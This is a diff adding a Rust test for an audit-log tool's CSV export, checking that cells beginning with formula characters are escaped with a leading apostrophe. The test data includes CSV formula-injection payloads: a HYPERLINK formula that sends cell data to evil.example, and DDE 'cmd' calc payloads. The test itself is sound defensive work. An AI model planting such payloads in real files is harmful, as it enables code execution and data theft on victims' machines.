@@ -1213,3 +1213,84 @@ fn an_exported_selection_relabelled_as_another_account_fails_verify() {
     std::fs::write(&export, forged).unwrap();
     s.smv(&args).fails(10).stderr_has("selection");
 }
+
+/// A tiny CSV reader (RFC 4180 quoting) for the tests: the cells of each record.
+fn csv_records(text: &str) -> Vec<Vec<String>> {
+    let mut records = Vec::new();
+    let (mut record, mut cell) = (Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => record.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                record.push(std::mem::take(&mut cell));
+                records.push(std::mem::take(&mut record));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    records
+}
+
+/// CSV cells that a spreadsheet would run as a formula (`= + - @`, or after a tab or CR) are
+/// written as text with a leading `'`; the JSON-lines export of the same entries keeps their
+/// exact bytes (and verifies).
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_and_jsonl_stays_exact() {
+    let dir = tempfile::tempdir().unwrap();
+    let key = LogKey::from_seed("smv-audit/csv", &[5; 32]).unwrap();
+    let mut log = AuditLog::create(
+        &dir.path().join("log.sqlite"),
+        LogKey::from_seed("smv-audit/csv", &[5; 32]).unwrap(),
+    )
+    .unwrap();
+    let dangerous = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for (i, reason) in dangerous.iter().enumerate() {
+        let mut r = record(i, Outcome::Failed, &format!("c{i}"));
+        r.reason = Some(reason.to_string());
+        r.actor = reason.to_string();
+        log.append(&r).unwrap();
+    }
+    let mut out = Vec::new();
+    audit::export::write_csv(&log, &Default::default(), &mut out, &mut |_, _| {}).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    let records = csv_records(&text);
+    assert_eq!(records.len(), dangerous.len() + 1, "{text}");
+    for (row, reason) in records[1..].iter().zip(dangerous) {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet runs: {cell:?} in {row:?}"
+            );
+        }
+        // Nothing is lost: the cell is the text after one `'`.
+        assert_eq!(row[2], format!("'{reason}"), "actor");
+        assert_eq!(row[7], format!("'{reason}"), "reason");
+    }
+    // Cells that are fine stay as they are (no `'` before a time or a number).
+    assert!(!records[1][0].starts_with('\''));
+    assert!(!records[1][1].starts_with('\''));
+    // The JSON-lines export keeps the exact text, and verifies.
+    let jsonl = export(&log, &key, &Default::default());
+    for reason in dangerous {
+        assert!(
+            jsonl.contains(&serde_json::to_string(reason).unwrap()),
+            "{reason:?}"
+        );
+    }
+    assert!(verify_text(&jsonl, &key, None).is_ok());
+}
